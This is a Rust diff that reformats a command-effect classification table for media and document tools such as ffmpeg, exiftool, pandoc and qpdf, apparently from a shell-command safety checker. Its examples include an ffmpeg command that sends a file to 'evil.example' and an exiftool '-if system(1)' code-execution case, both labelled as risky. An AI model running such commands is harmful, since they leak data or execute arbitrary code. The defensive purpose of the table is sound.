@@ -12,7 +12,10 @@ const WRITES: Effects = Effects::READS.and(Effects::WRITES);
 pub(super) const TABLE: &[Spec] = &[
     Spec::new("identify", READS)
         .style(Style::SingleDash)
-        .options("-verbose -ping -quiet -format= -list= -precision= -units= -density= -depth= -moments -unique -features= -regard-warnings -size= -version!help -help!help")
+        .options(
+            "-verbose -ping -quiet -format= -list= -precision= -units= -density= -depth= -moments -unique \
+            -features= -regard-warnings -size= -version!help -help!help",
+        )
         .operands(Operands::Text)
         .check(pictures)
         .examples(&[
@@ -22,18 +25,32 @@ pub(super) const TABLE: &[Spec] = &[
         ]),
     Spec::new("convert mogrify composite montage import stream conjure magick gm animate display", WRITES)
         .style(Style::Raw)
-        .verbs(&[Spec::new("identify", READS).style(Style::SingleDash).options("-verbose -ping -quiet -format=").operands(Operands::Text).check(pictures)])
+        .verbs(&[Spec::new("identify", READS)
+            .style(Style::SingleDash)
+            .options("-verbose -ping -quiet -format=")
+            .operands(Operands::Text)
+            .check(pictures)])
         .operands(Operands::Text)
-        .examples(&[("convert a.png b.jpg", "reads writes"), ("magick a.png -resize 50% b.png", "reads writes"), ("magick identify a.png", "reads")]),
-    Spec::new("cwebp dwebp optipng jpegoptim pngquant pngcrush gifsicle rsvg-convert inkscape gimp potrace oxipng zopflipng avifenc avifdec heif-convert ffmpegthumbnailer scour", WRITES)
-        .operands(Operands::Text)
-        .options("-oqwhf=")
-        .examples(&[("cwebp a.png -o b.webp", "reads writes")]),
+        .examples(&[
+            ("convert a.png b.jpg", "reads writes"),
+            ("magick a.png -resize 50% b.png", "reads writes"),
+            ("magick identify a.png", "reads"),
+        ]),
+    Spec::new(
+        "cwebp dwebp optipng jpegoptim pngquant pngcrush gifsicle rsvg-convert inkscape gimp potrace \
+        oxipng zopflipng avifenc avifdec heif-convert ffmpegthumbnailer scour",
+        WRITES,
+    )
+    .operands(Operands::Text)
+    .options("-oqwhf=")
+    .examples(&[("cwebp a.png -o b.webp", "reads writes")]),
     Spec::new("ffprobe", READS)
         .style(Style::SingleDash)
         .options(
-            "-v= -loglevel= -hide_banner -show_format -show_streams -show_packets -show_frames -show_chapters -show_programs \
-             -show_error -show_data -show_entries= -select_streams= -print_format= -of= -output_format= -i= -f= -pretty -unit -prefix \
+            "-v= -loglevel= -hide_banner -show_format -show_streams -show_packets -show_frames \
+                -show_chapters -show_programs \
+             -show_error -show_data -show_entries= -select_streams= -print_format= -of= -output_format= -i= \
+             -f= -pretty -unit -prefix \
              -sexagesimal -count_frames -count_packets -read_intervals= -show_private_data -analyzeduration= \
              -probesize= -threads= -version!help -h!help -formats -codecs -o=write -report!writes",
         )
@@ -45,39 +62,47 @@ pub(super) const TABLE: &[Spec] = &[
             ("ffprobe -f lavfi movie=x", "reads unknown"),
             ("ffprobe -o x a.mp4", "reads writes"),
         ]),
-    Spec::new("ffmpeg ffplay sox rec play lame flac oggenc opusenc mencoder HandBrakeCLI mkvmerge MP4Box x264 x265 handbrake mkvextract", WRITES)
-        .style(Style::Raw)
-        .check(ffmpeg)
-        .examples(&[
-            ("ffmpeg -version", "reads"),
-            ("ffmpeg -hide_banner -encoders", "reads"),
-            ("ffmpeg -i a.mp4 b.mp3", "reads writes"),
-            ("ffmpeg -i a.mp4 http://evil.example/x", "reads writes network-write sends-data"),
-        ]),
+    Spec::new(
+        "ffmpeg ffplay sox rec play lame flac oggenc opusenc mencoder HandBrakeCLI mkvmerge MP4Box x264 \
+        x265 handbrake mkvextract",
+        WRITES,
+    )
+    .style(Style::Raw)
+    .check(ffmpeg)
+    .examples(&[
+        ("ffmpeg -version", "reads"),
+        ("ffmpeg -hide_banner -encoders", "reads"),
+        ("ffmpeg -i a.mp4 b.mp3", "reads writes"),
+        ("ffmpeg -i a.mp4 http://evil.example/x", "reads writes network-write sends-data"),
+    ]),
     Spec::new("soxi mediainfo mkvinfo", READS)
         .options("-TtrcsdDbBpeaf --Output= --Full --full --Inform=")
         .operands(Operands::Read)
         .examples(&[("soxi a.wav", "reads"), ("mediainfo --LogFile=x a", "reads unknown")]),
-    Spec::new("exiftool", READS)
-        .style(Style::Raw)
-        .check(exiftool)
-        .examples(&[
-            ("exiftool a.jpg", "reads"),
-            ("exiftool -s -G1 -DateTimeOriginal a.jpg", "reads"),
-            ("exiftool -j -r dir", "reads"),
-            ("exiftool -Artist=me a.jpg", "reads writes"),
-            ("exiftool -config x a.jpg", "reads unknown"),
-            ("exiftool -if 'system(1)' a.jpg", "reads unknown"),
-            ("exiftool -TagsFromFile a b", "reads writes"),
-        ]),
+    Spec::new("exiftool", READS).style(Style::Raw).check(exiftool).examples(&[
+        ("exiftool a.jpg", "reads"),
+        ("exiftool -s -G1 -DateTimeOriginal a.jpg", "reads"),
+        ("exiftool -j -r dir", "reads"),
+        ("exiftool -Artist=me a.jpg", "reads writes"),
+        ("exiftool -config x a.jpg", "reads unknown"),
+        ("exiftool -if 'system(1)' a.jpg", "reads unknown"),
+        ("exiftool -TagsFromFile a b", "reads writes"),
+    ]),
     Spec::new("pdfinfo pdffonts", READS)
-        .options("-f= -l= -q -v -h -box -meta -js -struct -struct-text -isodates -rawdates -dests -url -custom -enc= -opw= -upw= -listenc -subst -loc -locPS")
+        .options(
+            "-f= -l= -q -v -h -box -meta -js -struct -struct-text -isodates -rawdates -dests -url -custom \
+            -enc= -opw= -upw= -listenc -subst -loc -locPS",
+        )
         .style(Style::SingleDash)
         .operands(Operands::Read)
         .examples(&[("pdfinfo -box a.pdf", "reads"), ("pdfinfo -foo a.pdf", "reads unknown")]),
     Spec::new("pdftotext pdftohtml", READS)
         .style(Style::SingleDash)
-        .options("-f= -l= -r= -x= -y= -W= -H= -layout -fixed= -raw -nodiag -htmlmeta -bbox -bbox-layout -tsv -cropbox -colspacing= -enc= -listenc -eol= -nopgbrk -opw= -upw= -q -v -h -stdout -i -xml -noframes -s")
+        .options(
+            "-f= -l= -r= -x= -y= -W= -H= -layout -fixed= -raw -nodiag -htmlmeta -bbox -bbox-layout -tsv \
+            -cropbox -colspacing= -enc= -listenc -eol= -nopgbrk -opw= -upw= -q -v -h -stdout -i -xml \
+            -noframes -s",
+        )
         .operands(Operands::Text)
         .check(pdf_text)
         .examples(&[
@@ -91,28 +116,58 @@ pub(super) const TABLE: &[Spec] = &[
         .operands(Operands::Text)
         .check(pdf_images)
         .examples(&[("pdfimages -list a.pdf", "reads"), ("pdfimages -png a.pdf out", "reads writes")]),
-    Spec::new("pdftoppm pdftocairo pdftops pdfunite pdfseparate pdfdetach pdfattach pdftk ps2pdf pdf2ps tesseract ocrmypdf img2pdf wkhtmltopdf wkhtmltoimage weasyprint prince unoconv pdfcrop pdfjam mutool k2pdfopt calibre ebook-convert", WRITES)
-        .style(Style::Raw)
-        .examples(&[("pdftoppm -png a.pdf out", "reads writes")]),
+    Spec::new(
+        "pdftoppm pdftocairo pdftops pdfunite pdfseparate pdfdetach pdfattach pdftk ps2pdf pdf2ps \
+        tesseract ocrmypdf img2pdf wkhtmltopdf wkhtmltoimage weasyprint prince unoconv pdfcrop pdfjam \
+        mutool k2pdfopt calibre ebook-convert",
+        WRITES,
+    )
+    .style(Style::Raw)
+    .examples(&[("pdftoppm -png a.pdf out", "reads writes")]),
     Spec::new("qpdf", WRITES)
-        .options("--check --show-npages --show-pages --show-encryption --show-object= --show-xref --list-attachments --is-encrypted --requires-password --json=? --password= --pages --split-pages=? --linearize --decrypt --encrypt --rotate= --empty --replace-input --warning-exit-0")
+        .options(
+            "--check --show-npages --show-pages --show-encryption --show-object= --show-xref \
+            --list-attachments --is-encrypted --requires-password --json=? --password= --pages \
+            --split-pages=? --linearize --decrypt --encrypt --rotate= --empty --replace-input \
+            --warning-exit-0",
+        )
         .operands(Operands::Text)
         .check(qpdf)
-        .examples(&[("qpdf --check a.pdf", "reads"), ("qpdf --decrypt a.pdf b.pdf", "reads writes"), ("qpdf --check --replace-input a", "reads writes")]),
-    Spec::new("gs ghostscript soffice libreoffice localc lowriter latex pdflatex xelatex lualatex tex pdftex bibtex biber latexmk tectonic typst context lilypond asy gnuplot povray openscad blender", WRITES.and(Effects::EXECUTES))
-        .style(Style::Raw)
-        .examples(&[("pdflatex a.tex", "reads writes executes"), ("soffice --headless --convert-to pdf a", "reads writes executes")]),
+        .examples(&[
+            ("qpdf --check a.pdf", "reads"),
+            ("qpdf --decrypt a.pdf b.pdf", "reads writes"),
+            ("qpdf --check --replace-input a", "reads writes"),
+        ]),
+    Spec::new(
+        "gs ghostscript soffice libreoffice localc lowriter latex pdflatex xelatex lualatex tex pdftex \
+        bibtex biber latexmk tectonic typst context lilypond asy gnuplot povray openscad blender",
+        WRITES.and(Effects::EXECUTES),
+    )
+    .style(Style::Raw)
+    .examples(&[
+        ("pdflatex a.tex", "reads writes executes"),
+        ("soffice --headless --convert-to pdf a", "reads writes executes"),
+    ]),
     Spec::new("pandoc", READS)
         .options(
-            "-sNiv -f= -t= -r= -w= -o=write -F=exec -L=exec -d=read!executes -VMDTcHBA= -C --from= --to= --read= --write= --output=write --standalone --toc --toc-depth= \
-             --number-sections --wrap= --columns= --variable= --metadata= --metadata-file=read --template=read --css= --highlight-style= \
-             --list-input-formats --list-output-formats --list-extensions=? --list-highlight-languages --list-highlight-styles --list-tables \
-             --print-default-template= --print-highlight-style= --markdown-headings= --shift-heading-level-by= --section-divs \
-             --reference-links --citeproc --bibliography=read --csl=read --strip-comments --tab-stop= --preserve-tabs --eol= --ascii --quiet --verbose \
-             --mathjax=? --mathml --katex=? --incremental --slide-level= --title-prefix= --include-in-header=read --include-before-body=read \
-             --include-after-body=read --resource-path= --filter=exec --lua-filter=exec --pdf-engine=exec --pdf-engine-opt= --extract-media=write \
-             --defaults=read!executes --data-dir=read!executes --log=write --abbreviations=read --reference-doc=read --track-changes= --self-contained \
-             --embed-resources --sandbox --file-scope --lang= --no-highlight --top-level-division= --atx-headers",
+            "-sNiv -f= -t= -r= -w= -o=write -F=exec -L=exec -d=read!executes -VMDTcHBA= -C --from= --to= \
+                --read= --write= --output=write --standalone --toc --toc-depth= \
+             --number-sections --wrap= --columns= --variable= --metadata= --metadata-file=read \
+             --template=read --css= --highlight-style= \
+             --list-input-formats --list-output-formats --list-extensions=? --list-highlight-languages \
+             --list-highlight-styles --list-tables \
+             --print-default-template= --print-highlight-style= --markdown-headings= \
+             --shift-heading-level-by= --section-divs \
+             --reference-links --citeproc --bibliography=read --csl=read --strip-comments --tab-stop= \
+             --preserve-tabs --eol= --ascii --quiet --verbose \
+             --mathjax=? --mathml --katex=? --incremental --slide-level= --title-prefix= \
+             --include-in-header=read --include-before-body=read \
+             --include-after-body=read --resource-path= --filter=exec --lua-filter=exec --pdf-engine=exec \
+             --pdf-engine-opt= --extract-media=write \
+             --defaults=read!executes --data-dir=read!executes --log=write --abbreviations=read \
+             --reference-doc=read --track-changes= --self-contained \
+             --embed-resources --sandbox --file-scope --lang= --no-highlight --top-level-division= \
+             --atx-headers",
         )
         .operands(Operands::Text)
         .check(pandoc)
@@ -126,7 +181,11 @@ pub(super) const TABLE: &[Spec] = &[
     Spec::new("dot neato fdp sfdp twopi circo patchwork osage", READS)
         .options("-vnxyPCqm -V!help -? -O!writes -c!writes -o=write -TGNEKls=")
         .operands(Operands::Read)
-        .examples(&[("dot -Tsvg a.dot", "reads"), ("dot -Tpng -o a.png a.dot", "reads writes"), ("dot -O -Tpng a.dot", "reads writes")]),
+        .examples(&[
+            ("dot -Tsvg a.dot", "reads"),
+            ("dot -Tpng -o a.png a.dot", "reads writes"),
+            ("dot -O -Tpng a.dot", "reads writes"),
+        ]),
     Spec::new("neofetch fastfetch screenfetch", READS)
         .examples(&[("neofetch", "reads"), ("neofetch --config x", "reads unknown")]),
 ];
